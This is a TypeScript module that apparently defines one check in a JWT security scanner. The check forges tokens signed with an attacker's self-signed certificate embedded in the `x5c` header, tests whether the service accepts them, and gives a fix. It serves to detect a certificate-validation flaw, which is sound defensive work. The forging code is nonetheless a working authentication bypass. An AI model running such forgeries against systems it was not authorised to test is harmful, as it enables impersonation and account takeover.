import { attackerKeys } from './attacker-keys.ts'
import { forgeryAttack } from './forgery-attack.ts'
import { signedToken } from './jwt.ts'

export const embeddedCertificate = forgeryAttack({
  id: 'embedded-certificate',
  number: 34,
  severity: 'critical',
  cwe: 295,
  title: 'A token is verified with a certificate that it brings itself',
  references: ['OWASP API2:2023', 'RFC 7515 section 4.1.6', 'RFC 8725 section 3.10', 'ASVS 5.0 9.1.3'],
  tokens: 2,
  oracle:
    'The real claims, signed with the key of a self-signed certificate in `x5c`, are answered as the real token is.',
  fix: 'Verify with keys that are configured; where `x5c` must be used, check its chain against your own authority first.',
  async forge({ jwt }, probe) {
    return (await attackerKeys(jwt, probe)).map((key) => ({
      told: `signed with the ${key.alg} key of a self-signed certificate in its header`,
      token: signedToken(
        { ...jwt.header, alg: key.alg, x5c: [key.certificate.toString('base64')] },
        jwt.claims,
        key.privateKey,
      ),
    }))
  },
})
